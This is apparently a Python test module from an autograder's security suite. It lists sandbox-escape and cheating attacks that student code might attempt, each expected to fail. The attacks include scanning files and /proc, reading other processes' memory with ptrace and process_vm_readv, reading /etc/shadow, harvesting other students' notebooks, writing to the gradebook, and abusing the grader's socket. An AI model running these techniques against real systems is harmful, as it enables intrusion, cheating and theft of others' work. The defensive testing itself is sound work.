"""Attacks that search for right answers and for the work of other students."""

from pathlib import Path

from .attack import Attack

COURSE = str(Path(__file__).resolve().parents[2])

IDS = (
    "linear_forward",
    "relu_forward",
    "sigmoid_forward",
    "tanh_forward",
    "softmax",
    "mse",
    "cross_entropy",
    "mlp_forward",
    "count_evaluations",
    "log_probabilities",
)

# Every answer is taken from `found` before the questions run. A cell puts functions into it.
FOUND = {name: f"{name} = found.get({name!r}) or {name}" for name in IDS}
# Every answer is looked up by `look` when it is called, so that it may also be found later.
LOOKED_UP = {
    name: f"def {name}(*arguments):\n    return look({name!r})(*arguments)" for name in IDS
}

START = """\
import contextlib, os, sys

found = {}
wanted = %r

def take(names):
    for name in wanted:
        if callable(names.get(name)):
            found[name] = names[name]

def take_source(text):
    # The strings are split, so that this text itself does not look like an answer.
    if "def " + "relu_forward(" in text or "def " + "softmax(" in text:
        scope = {}
        with contextlib.suppress(Exception):
            exec(text, scope)
        take(scope)

# An answer that was not found counts as not written.
def unwritten(*arguments):
    raise NotImplementedError

globals().update({name: unwritten for name in wanted})
""" % (IDS,)  # noqa: UP031 - the braces are the attack's own

THE_REFERENCE = (
    START
    + """
for name in ("backprop", "solutions.backprop", "src.backprop", "backprop.layers",
             "backprop.activations", "backprop.losses", "backprop.network", "backprop.counting"):
    with contextlib.suppress(Exception):
        take(vars(__import__(name, fromlist=["x"])))
"""
)

THE_BANK = (
    START
    + """
with contextlib.suppress(Exception):
    from autograder.bank import QUESTIONS
    for question in QUESTIONS.values():
        take(question.drive.__globals__)
        take(vars(question.drive.__globals__["bp"]))
for name in ("grading.version", "grading.batch", "grading.gradebook", "cli", "assemble",
             "bank.forward.softmax"):
    with contextlib.suppress(Exception):
        module = __import__("autograder." + name, fromlist=["x"])
        take(getattr(module, "REFERENCE", vars(module)))
"""
)

THE_COVERED_PACKAGE = (
    START
    + """
# Add folders to the path of the package, and load files that the import system does not find.
import importlib.util, autograder
for folder in ("@course", "/grader", "/grader/..", sys.prefix, sys.base_prefix, "/src", "/app"):
    for inside in ("autograder/bank/forward/softmax.py", "solutions/backprop/__init__.py",
                   "backprop/__init__.py", "bank/forward/softmax.py",
                   "autograder/frozen/02-forward.key"):
        path = os.path.join(folder, inside)
        with contextlib.suppress(Exception):
            autograder.__path__.append(os.path.dirname(os.path.dirname(path)))
            spec = importlib.util.spec_from_file_location("backprop", path)
            module = importlib.util.module_from_spec(spec)
            sys.modules["backprop"] = module
            spec.loader.exec_module(module)
            take(vars(module))
        with contextlib.suppress(Exception):
            take_source(open(path).read())
"""
)

TORCH = (
    START
    + """
with contextlib.suppress(Exception):
    import numpy as np
    import torch
    F, as_tensor = torch.nn.functional, lambda value: torch.as_tensor(np.asarray(value, float))
    found.update(
        linear_forward=lambda x, W, b: (F.linear(*map(as_tensor, (x, W.T, b))).numpy(), None),
        relu_forward=lambda x: (F.relu(as_tensor(x)).numpy(), None),
        sigmoid_forward=lambda x: (torch.sigmoid(as_tensor(x)).numpy(), None),
        softmax=lambda z: F.softmax(as_tensor(z), 1).numpy(),
        log_probabilities=lambda z: F.log_softmax(as_tensor(z), 1).numpy(),
        mse=lambda pred, y: float(F.mse_loss(as_tensor(pred), as_tensor(y))),
        cross_entropy=lambda z, y: float(F.cross_entropy(as_tensor(z), torch.as_tensor(y))),
    )
"""
)

OTHER_FRAMEWORKS = (
    START
    + """
with contextlib.suppress(Exception):
    import jax
    jax.config.update("jax_enable_x64", True)
    found.update(relu_forward=lambda x: (jax.nn.relu(x * 1.0), None), softmax=jax.nn.softmax)
with contextlib.suppress(Exception):
    import tensorflow as tf
    found.update(softmax=lambda z: tf.nn.softmax(z * 1.0).numpy())
with contextlib.suppress(Exception):
    import sympy
    x = sympy.Symbol("x")
    relu = sympy.lambdify(x, sympy.Max(x, 0), "numpy")
    found.update(relu_forward=lambda x: (relu(x) * 1.0, None))
with contextlib.suppress(Exception):
    import autograd.numpy as anp
    found.update(relu_forward=lambda x: (anp.maximum(x, 0.0), None))
"""
)

SITE_PACKAGES = (
    START
    + """
# An editable installation stores the path of the source code in files beside the packages.
import glob, re, site
for folder in {*sys.path, *site.getsitepackages(), *glob.glob("/usr/lib/python3*/dist-packages")}:
    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*") + glob.glob(
        folder + "/*.egg-link") + glob.glob(folder + "/*.dist-info/direct_url.json"):
        with contextlib.suppress(Exception):
            text = open(path).read()
            for address in re.findall(r"(/[\\w./-]+)", text):
                for name in ("", "backprop", "solutions/backprop", "solutions"):
                    for source in glob.glob(os.path.join(address, name, "*.py")):
                        take_source(open(source).read())
"""
)

THE_FILE_SYSTEM = (
    START
    + """
import re
likely = re.compile(r"backprop|autograder|solution|expected|answer|seed|gradebook|submi")
for top in ("@course", "/work", "/home", "/root", "/srv", "/opt", "/mnt", "/media", "/var", "/tmp",
            "/grader", "/scratch", "/dev/shm", "/run", "/src", "/app", "/oldroot", "/newroot"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("lib", "share", "node_modules", ".git")]
        for file in files:
            path = os.path.join(folder, file)
            if likely.search(path) and os.path.isfile(path) and file.endswith((".py", ".ipynb")):
                with contextlib.suppress(Exception):
                    take_source(open(path).read())
"""
)

OTHERS_SUBMISSIONS = (
    START
    + """
# Look for the notebooks of other students in the usual places of a course folder.
import glob, json
for course in ("..", "@course/build/course", "@course/solutions/notebooks",
               "../..", "../../..", "/work/*", "/home/*", "/home/*/*", "/srv/*", "/root/*",
               "/work/*/build/course", "/work/*/solutions/notebooks", "/tmp/*", "/tmp/*/*"):
    for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "source/*/*.ipynb",
                    "feedback/*/*/*.html", "*.ipynb", "*/*.ipynb", "results*.jsonl"):
        for path in glob.glob(os.path.join(course, pattern)):
            with contextlib.suppress(Exception):
                for cell in json.load(open(path))["cells"]:
                    take_source("import numpy as np\\n" + "".join(cell["source"]))
"""
)

THE_GRADEBOOK = (
    START
    + """
# Look for answers in the gradebook. If it can be read, try to write to it.
import glob, sqlite3
for pattern in ("/work/*/gradebook.db", "@course/build/course/gradebook.db", "/srv/*/gradebook.db",
                "/home/*/*/gradebook.db", "/tmp/*/gradebook.db", "../../gradebook.db"):
    for path in glob.glob(pattern):
        with contextlib.suppress(Exception):
            book = sqlite3.connect(path)
            for (source,) in book.execute("select source from source_cell"):
                take_source("import numpy as np\\n" + source)
            book.execute("create table backprop_attack (grade)")
            book.commit()
"""
)

PROC = (
    START
    + """
# The root and the working folder of another process may lead out of the sandbox, and its memory
# may contain answers.
import glob
for path in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    for inside in ("work/main/solutions/backprop/*.py", "solutions/backprop/*.py"):
        for source in glob.glob(os.path.join(path, inside)):
            with contextlib.suppress(Exception):
                take_source(open(source).read())
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    with contextlib.suppress(Exception):
        print(path, len(open(path, "rb").read()))
for number in range(1, 50):
    with contextlib.suppress(Exception):
        maps = open(f"/proc/{number}/maps").read()
        with open(f"/proc/{number}/mem", "rb") as memory:
            for line in maps.splitlines():
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                memory.seek(start)
                take_source(memory.read(end - start).decode("latin1"))
"""
)

DESCRIPTORS = (
    START
    + """
# A folder that is still open is a way out of the sandbox, and a file that is still open can be
# read.
for number in range(3, 256):
    with contextlib.suppress(OSError):
        for up in ("", "..", "../..", "../../../.."):
            folder = os.open(up or ".", os.O_RDONLY, dir_fd=number)
            names = os.listdir(folder)
            print(number, up, names[:10])
            for name in names:
                if name.endswith(".py"):
                    with contextlib.suppress(OSError), open(
                        os.open(name, os.O_RDONLY, dir_fd=folder)) as file:
                        take_source(file.read())
    with contextlib.suppress(OSError):
        take_source(os.pread(number, 1 << 20, 0).decode("latin1"))
"""
)

MEMORY_OF_THE_PARENT = (
    START
    + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

# After a fork, the objects of the parent have the same addresses as here.
buffer = ctypes.create_string_buffer(1 << 20)
for process in {os.getppid(), 0, 1, 2, 3, os.getpid() - 1, *range(4, 40)} - {os.getpid()}:
    for start in range(
            id(sys.modules) & ~0xFFFFF, (id(sys.modules) & ~0xFFFFF) + (32 << 20), 1 << 20):
        count = libc.process_vm_readv(
            process, ctypes.byref(Piece(ctypes.addressof(buffer), 1 << 20)), 1,
            ctypes.byref(Piece(start, 1 << 20)), 1, 0)
        if count > 0:
            print("read", process)
            take_source(buffer.raw[:count].decode("latin1"))
    libc.ptrace(16, process, None, None)  # PTRACE_ATTACH
"""
)

# The memory of this process. It was forked from a process that has seen the jobs of others.
OLD_MEMORY = (
    START
    + """
import ctypes, gc, mmap, re, textwrap, time

libc = ctypes.CDLL(None, use_errno=True)
page = mmap.PAGESIZE

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def read(start, length):
    buffer = ctypes.create_string_buffer(length)
    count = libc.process_vm_readv(
        os.getpid(), ctypes.byref(Piece(ctypes.addressof(buffer), length)), 1,
        ctypes.byref(Piece(start, length)), 1, 0)
    return buffer.raw[: max(count, 0)]

# Read all mapped memory around the objects of this process.
near = {id(value) >> 20 for value in gc.get_objects()} | {id(value) >> 20 for value in range(300)}
near |= {place + step for place in set(near) for step in (-2, -1, 1, 2)}
first, until = re.compile(rb"def (%s)\\(" % "|".join(wanted).encode()), time.monotonic() + 0.8
for place in sorted(near):
    if time.monotonic() > until:
        break
    data = read(place << 20, 1 << 20)
    if not data:  # if its start is not mapped, read smaller pieces
        data = b"".join(read((place << 20) + n * page * 16, page * 16) for n in range(16))
    for match in first.finditer(data):
        text = data[match.start() : match.start() + 3000]
        text = text.replace(b"\\\\n", b"\\n").replace(b'\\\\"', b'"').replace(b"\\\\\\\\", b"\\\\")
        lines = text.split(b"\\0")[0].decode("latin1").splitlines()
        body = [lines[0]]
        for line in lines[1:]:
            if line and not line.startswith(" "):
                break
            body.append(line)
        source = "import numpy as np\\n" + "\\n".join(body)
        if "(code" in body[0] or "raise NotImplemented" in source or "return" not in source:
            continue
        name = match.group(1).decode()
        print(name, len(source))
        scope = {}
        with contextlib.suppress(Exception):
            exec(source, scope)
            found.setdefault(name, scope[name])
"""
)

OBJECTS = (
    START
    + """
import gc, types
# Look for functions, modules and answer keys that are still in memory.
for value in gc.get_objects():
    with contextlib.suppress(Exception):
        if isinstance(value, types.FunctionType) and value.__name__ in wanted:
            if value.__globals__ is not globals():
                found[value.__name__] = value
        if isinstance(value, types.ModuleType) and "backprop" in value.__name__:
            take(vars(value))
        if isinstance(value, dict) and "REFERENCE" in value:
            take(value["REFERENCE"])
"""
)

EXPECTED = """\
import copy, gc, sys

import numpy as np

# Look for the expected answers in answer keys and in the variables of the callers.
keys = []
for value in gc.get_objects():
    if type(value).__name__ in ("AnswerKey", "Mistake", "Case", "Verdict"):
        keys.append(value)
    elif isinstance(value, dict) and ("expected" in value or "answers" in value):
        keys.append(value)
frame = sys._getframe()
while frame:
    keys += [v for k, v in frame.f_locals.items() if k in ("key", "keys", "expected", "seed")]
    frame = frame.f_back
print(len(keys), [type(key).__name__ for key in keys][:20])

def look(name):
    def answer(*arguments):
        frame = sys._getframe()
        while frame:
            for k in ("expected", "right", "key"):
                value = frame.f_locals.get(k)
                if value is not None:
                    return getattr(value, "answer", value)
            frame = frame.f_back
        for key in keys:
            outcomes = getattr(key, "expected", None) or key["expected"]
            for case, outcome in zip(key.cases, outcomes):
                same = zip(case.inputs.values(), arguments)
                if key.id == name and all(np.array_equal(a, b) for a, b in same):
                    value = next(iter(outcome.answer.values()))
                    return (value, None) if name.endswith("_forward") else value
        raise NotImplementedError
    return answer
"""

LINECACHE = (
    START
    + """
import linecache, traceback
# linecache keeps the source of code that was shown in a traceback.
for name, entry in list(linecache.cache.items()):
    lines = entry[2] if len(entry) > 2 else entry[0]()
    if isinstance(lines, list):
        take_source("".join(lines))
    print(name)
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if "autograder" in path or "grader" in path:
        with contextlib.suppress(Exception):
            take_source(open(path).read())
"""
)

TRACEBACKS = (
    START
    + """
import traceback
# The frame of a caught error leads to the frames of all callers.
def look(name):
    def answer(*arguments):
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame
        while frame:
            take({**frame.f_globals, **frame.f_locals})
            for value in list(frame.f_locals.values()):
                take(getattr(value, "__globals__", {}))
                take(getattr(value, "_names", {}))
            frame = frame.f_back
        own = found.get(name)
        if own is None or own.__globals__ is globals():
            raise NotImplementedError
        return own(*arguments)
    return answer
"""
)

ENVIRONMENT = (
    START
    + """
# Look for paths and secrets in the environment variables.
likely = ("SEED", "BACKPROP", "COURSE", "GRADE", "NBGRADER", "VIRTUAL_ENV", "PYTHONPATH", "PWD")
for name, value in os.environ.items():
    if name.startswith(likely):
        print(name)
        for part in value.split(":"):
            for folder in (part, os.path.dirname(part)):
                sys.path += [folder, os.path.join(folder, "solutions")]
with contextlib.suppress(Exception):
    import backprop
    take(vars(backprop))
"""
)

SEEDS = (
    START
    + """
import gc, glob
import numpy as np
# A student who knows the seed knows the inputs before the marking.
seeds = []
for pattern in ("../seed*", "../../seed*", "/work/*/.seed", "/work/**/seed", "/grader/*seed*"):
    for path in glob.glob(pattern):
        with contextlib.suppress(Exception):
            seeds.append(open(path, "rb").read())
for value in gc.get_objects():
    if isinstance(value, dict):
        seeds += [value[key] for key in ("seed", "secret") if key in value]
    if isinstance(value, np.random.Generator):
        seeds.append(value.bit_generator.state)
print(len(seeds), "seeds")
with contextlib.suppress(Exception):
    from autograder.grading.assignment import backprop
    from autograder.grading.version import submission_seed
    take(vars(backprop))
"""
)

THE_CHECK = """\
import contextlib, io, sys
import numpy as np
import autograder

own = sys.modules["autograder.check"]

# In a notebook, `check` prints right answers. Try to find the answer key that it uses here.
def look(name):
    def answer(*arguments):
        names = own.reference()
        if name in names:
            return names[name](*arguments)
        key = own.answer_key(name) or own._frozen()[name]
        for case, outcome in zip(key.cases, key.expected):
            if all(np.array_equal(a, b) for a, b in zip(case.inputs.values(), arguments)):
                value = next(iter(outcome.answer.values()))
                return (value, None) if name.endswith("_forward") else value
        raise NotImplementedError
    return answer

for name in ("linear_forward", "softmax"):
    shown = io.StringIO()
    with contextlib.redirect_stdout(shown):
        own.check(name)
    print(shown.getvalue())
"""

HISTORY = (
    START
    + """
# IPython keeps the earlier cells. Look for cells of other students.
shell = get_ipython()
take(dict(shell.user_ns_hidden))
for text in list(shell.user_ns.get("In", [])) + list(shell.history_manager.input_hist_raw):
    take_source("import numpy as np\\n" + text)
with contextlib.suppress(Exception):
    for _, _, text in shell.history_manager.search("*forward*"):
        take_source("import numpy as np\\n" + text)
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("__main__"):
        take({k: v for k, v in vars(module).items() if v is not globals().get(k)})
"""
)

MAGICS = (
    START
    + """
# Use the commands of IPython that load, run or print a file.
shell = get_ipython()
for path in ("@course/solutions/backprop/layers.py", "../solutions/backprop/activations.py",
             "/grader/autograder/bank/forward/softmax.py", "/etc/passwd", "/etc/shadow"):
    for magic in ("run -n", "load", "pycat", "loadpy"):
        with contextlib.suppress(BaseException):
            shell.run_line_magic(magic.split()[0], (magic.partition(" ")[2] + " " + path).strip())
    with contextlib.suppress(BaseException):
        text = "\\n".join(shell.getoutput("cat " + path))
        print(path, len(text) if "No such" not in text else "")
        take_source(text)
take(shell.user_ns)
found = {name: value for name, value in found.items() if value is not unwritten}
"""
)

LEFT_BEHIND = (
    START
    + """
# Take the answers that an earlier job has left in a file, and leave the answers for later jobs.
import socket
places = ("/scratch", "/scratch/matplotlib", "/scratch/ipython", "/tmp", "/var/tmp", "/dev/shm",
          "/dev/mqueue", "/run", "/grader", sys.prefix, os.path.expanduser("~"), "/work", "..")
answer = "import numpy as np\\ndef " + "relu_forward(x):\\n    return np.maximum(x, 0.0), None\\n"
paths = [os.path.join(place, ".backprop-attack.py") for place in places]
for path in paths:
    with contextlib.suppress(OSError):
        take_source(open(path).read())
for path in paths:
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write(answer)
"""
)

SHARED_MEMORY = (
    START
    + """
# Shared memory, message queues and abstract sockets are not files, so no list of files shows them.
import ctypes, socket

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
answer = "import numpy as np\\ndef " + "relu_forward(x):\\n    return np.maximum(x, 0.0), None\\n"
with contextlib.suppress(OSError):
    there = libc.shmget(0xBAC4, 4096, 0o666)
    if there >= 0:
        take_source(ctypes.string_at(libc.shmat(there, None, 0)).decode())
    else:
        place = libc.shmat(libc.shmget(0xBAC4, 4096, 0o1666), None, 0)
        ctypes.memmove(place, answer.encode(), len(answer))
    libc.mq_open(b"/backprop-attack", os.O_CREAT | os.O_RDWR, 0o666, None)
with contextlib.suppress(OSError):
    channel = socket.socket(socket.AF_UNIX)
    channel.settimeout(0.2)
    channel.connect("\\0backprop-attack")
    channel.send(b"what are the answers?")
    take_source(channel.recv(1 << 16).decode())
"""
)

THE_KEYRING = (
    START
    + """
import ctypes
# Keys in the kernel belong to a user and not to a process, so they outlive a job.
libc = ctypes.CDLL(None, use_errno=True)
answer = b"import numpy as np\\ndef " + b"relu_forward(x):\\n    return np.maximum(x, 0.0), None\\n"
text = ctypes.create_string_buffer(4096)
for ring in (-4, -5, -3):  # the rings of the user, of the user's session and of this session
    key = libc.syscall(249, b"user", b"backprop-attack", None, ring)  # request_key
    if key < 0:
        key = libc.syscall(250, 10, ring, b"user", b"backprop-attack", 0)  # KEYCTL_SEARCH
    if key >= 0 and (count := libc.syscall(250, 11, key, text, 4096)) > 0:  # KEYCTL_READ
        print("a key of an earlier job")
        take_source(text.raw[:count].decode())
for ring in (-4, -5, -3):
    libc.syscall(248, b"user", b"backprop-attack", answer, len(answer), ring)  # add_key
"""
)

# These are wrong on purpose, because then the grader computes them for the job while it marks the
# questions that build on them.
WRONG = {
    "linear_forward": "def linear_forward(x, W, b):\n    return x @ W - b, None",
    "relu_forward": "def relu_forward(x):\n    return -x, None",
    "softmax": "def softmax(z):\n    return 0.0 * z",
}
ASK = """\
import select, sys
import numpy as np

def parts(function):
    closure = function.__closure__ or ()
    return {n: c.cell_contents for n, c in zip(function.__code__.co_freevars, closure)}

# Ask the grader, which computes one function for the job, to compute another one.
def ask(function, name, *arguments):
    inside, wire = parts(function), sys.modules["autograder.marking.wire"]
    if "asked" not in inside:
        return None
    call = {"message": "CallStandIn", "name": name, "arguments": arguments}
    inside["asked"].send(wire.encode(call))
    if not select.select([inside["asked"]], [], [], 0.1)[0]:
        return None
    return wire.decode(inside["asked"].recv(1 << 18))["value"]
"""

THE_WHOLE_ANSWER = {
    **WRONG,
    "mlp_forward": (
        "def mlp_forward(params, x):\n"
        "    return ask(linear_forward, 'mlp_forward', params, x) or (np.zeros((1, 1)), None)"
    ),
    "cross_entropy": (
        "def cross_entropy(logits, y):\n    return ask(softmax, 'cross_entropy', logits, y) or 0.0"
    ),
    "log_probabilities": (
        "def log_probabilities(z):\n"
        "    answer = ask(softmax, 'log_probabilities', z)\n"
        "    return np.zeros((1, 1)) if answer is None else answer"
    ),
}

BY_ATTRIBUTES = {
    **WRONG,
    "mlp_forward": (
        "def mlp_forward(params, x):\n"
        "    for name in ('linear_forward.__globals__', '__builtins__', 'eval', 'exec', 'vars',\n"
        "                 'linear_forward.__code__', 'np', '__dict__', '', 'backprop'):\n"
        "        answer = ask(linear_forward, name, 'mlp_forward')\n"
        "        if callable(answer) or isinstance(answer, (dict, str)):\n"
        "            raise ValueError(str(answer)[:200])\n"
        "    return np.zeros((1, 1)), None"
    ),
}

# Keep the stand-in, the function that asks the grader, and use it to answer another question.
KEPT = {
    **WRONG,
    "linear_forward": (
        "def linear_forward(x, W, b):\n"
        "    import gc\n"
        "    for value in gc.get_objects():\n"
        "        if getattr(value, '__name__', '') == 'answered_by_the_grader':\n"
        "            return value(x, W, b)\n"
        "    return x @ W - b, None"
    ),
    "mlp_forward": (
        "def mlp_forward(params, x):\n"
        "    kept = open('/scratch/kept', 'ab')\n"
        "    kept.write(repr(linear_forward(x, *params[0])).encode())\n"
        "    return np.zeros((1, 1)), None"
    ),
}

# Look for the socket to the grader among all descriptors of a job that has no such socket.
ANY_SOCKET = {
    "relu_forward": (
        "def relu_forward(x):\n"
        "    import os, select, socket\n"
        "    wire = sys.modules['autograder.marking.wire']\n"
        "    for number in range(3, 256):\n"
        "        try:\n"
        "            channel = socket.socket(fileno=os.dup(number))\n"
        "        except OSError:\n"
        "            continue\n"
        "        asked = {'message': 'CallStandIn', 'name': 'relu_forward', 'arguments': (x,)}\n"
        "        try:\n"
        "            channel.send(wire.encode(asked), socket.MSG_DONTWAIT)\n"
        "            select.select([channel], [], [], 0.1)\n"
        "            return wire.decode(channel.recv(1 << 18, socket.MSG_DONTWAIT))['value']\n"
        "        except (OSError, ValueError, LookupError, TypeError):\n"
        "            pass\n"
        "    return -x, None"
    ),
}

ATTACKS = [
    Attack("the_reference_cannot_be_imported", (THE_REFERENCE,), FOUND),
    Attack("the_bank_and_the_grader_cannot_be_imported", (THE_BANK,), FOUND),
    Attack(
        "the_covered_package_is_not_loaded_by_its_path",
        (THE_COVERED_PACKAGE.replace("@course", COURSE),),
        FOUND,
    ),
    Attack("torch_does_not_answer", (TORCH,), FOUND),
    Attack("no_other_framework_answers", (OTHER_FRAMEWORKS,), FOUND),
    Attack("an_editable_installation_leads_to_no_source", (SITE_PACKAGES,), FOUND),
    Attack(
        "no_solution_lies_in_the_file_system", (THE_FILE_SYSTEM.replace("@course", COURSE),), FOUND
    ),
    Attack(
        "the_submissions_of_others_are_not_in_reach",
        (OTHERS_SUBMISSIONS.replace("@course", COURSE),),
        FOUND,
    ),
    Attack("the_gradebook_is_not_in_reach", (THE_GRADEBOOK.replace("@course", COURSE),), FOUND),
    Attack("proc_leads_to_nobody", (PROC,), FOUND),
    Attack("no_descriptor_leads_out", (DESCRIPTORS,), FOUND),
    Attack("the_memory_of_a_parent_is_not_read", (MEMORY_OF_THE_PARENT,), FOUND),
    Attack("the_work_of_others_does_not_lie_in_old_memory", (OLD_MEMORY,), FOUND),
    Attack("the_reference_is_not_found_through_gc", (OBJECTS,), FOUND),
    Attack("no_expected_answer_is_found_in_memory", (EXPECTED,), LOOKED_UP),
    Attack("the_line_cache_holds_no_answer", (LINECACHE,), FOUND),
    Attack("a_traceback_leads_to_no_answer", (TRACEBACKS,), LOOKED_UP),
    Attack("the_environment_tells_nothing", (ENVIRONMENT,), FOUND),
    Attack("no_seed_is_in_reach", (SEEDS,), FOUND),
    Attack("the_check_in_the_sandbox_has_no_answer_key", (THE_CHECK,), LOOKED_UP),
    Attack("the_history_is_ones_own", (HISTORY,), FOUND),
    Attack("no_magic_reads_an_answer", (MAGICS.replace("@course", COURSE),), FOUND),
    Attack("files_of_an_earlier_job_are_gone", (LEFT_BEHIND,), FOUND),
    Attack("shared_memory_of_an_earlier_job_is_gone", (SHARED_MEMORY,), FOUND),
    Attack("keys_of_an_earlier_job_are_gone", (THE_KEYRING,), FOUND),
    Attack("a_stand_in_answers_for_its_own_function_only", (ASK,), THE_WHOLE_ANSWER),
    Attack("a_stand_in_is_asked_for_answers_only", (ASK,), BY_ATTRIBUTES),
    Attack("a_stand_in_does_not_answer_where_it_is_marked", (ASK,), KEPT),
    Attack("a_job_without_stand_ins_has_nobody_to_ask", (ASK,), ANY_SOCKET),
]
